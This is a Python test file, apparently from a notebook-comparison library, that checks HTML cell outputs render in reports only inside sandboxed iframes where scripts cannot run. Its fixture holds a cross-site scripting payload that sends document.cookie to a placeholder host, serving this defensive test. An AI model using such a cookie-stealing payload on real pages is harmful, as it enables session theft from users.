"""What cells showed as HTML is shown in reports in a sandbox: none of its scripts run."""

from __future__ import annotations

import html
import re
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

from nbcellar.runs.comparison import Comparison
from nbcellar.runs.outputs import Html

SHOWN = "<b>fitted</b><script>fetch('https://example.invalid/?' + document.cookie)</script>"


@dataclass
class Run:
    id: str
    params: Mapping[str, Any] = field(default_factory=dict)
    values: Mapping[str, Any] = field(default_factory=dict)

    def names(self) -> list[str]:
        return ["shown"]

    def history(self, key: str) -> list[Any]:
        return [Html(SHOWN)]


def test_html_outputs_are_sandboxed_in_a_comparison() -> None:
    page = Comparison("shown", [Run("a", {"alpha": 1}), Run("b", {"alpha": 2})])._repr_html_()
    assert "<script" not in page  # only inside the frame's document, escaped
    frames = re.findall(r'<iframe sandbox="" srcdoc="([^"]*)"', page)
    assert len(frames) == 2
    assert html.unescape(frames[0]) == SHOWN  # shown whole, in a frame that runs no script
